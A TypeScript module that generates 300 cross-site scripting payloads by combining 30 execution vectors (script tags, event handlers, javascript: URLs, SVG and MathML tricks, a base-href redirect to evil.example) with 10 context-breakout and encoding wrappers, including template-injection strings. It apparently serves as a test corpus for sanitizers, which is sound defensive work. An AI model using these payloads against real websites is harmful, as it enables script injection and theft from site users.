// Three hundred texts that execute something where they are taken for anything but text. Each would set `pwned` or open
// a dialog. Written as a grammar: what executes, times where it hides.

const run = "window.pwned=1";
const alertRun = "alert(1)";

const executes: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${alertRun}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>go</text></a></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" id=go>go</a>`,
  `<a href="java&Tab;script:${run}">go</a>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}" form=x>go</button>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="data:text/css,*{visibility:hidden}">`,
  `<style>*{visibility:hidden}</style>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
];

const hides: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<'`,
  (text) => `-->${text}<!--`,
  (text) => `</p></div></main>${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => `{{constructor.constructor('${run}')()}}${text}`,
  (text) => `\${(${run})}${text}`,
];

/** 300 of them, no two alike. */
export const payloads: readonly string[] = executes.flatMap((text) => hides.map((hide) => hide(text)));
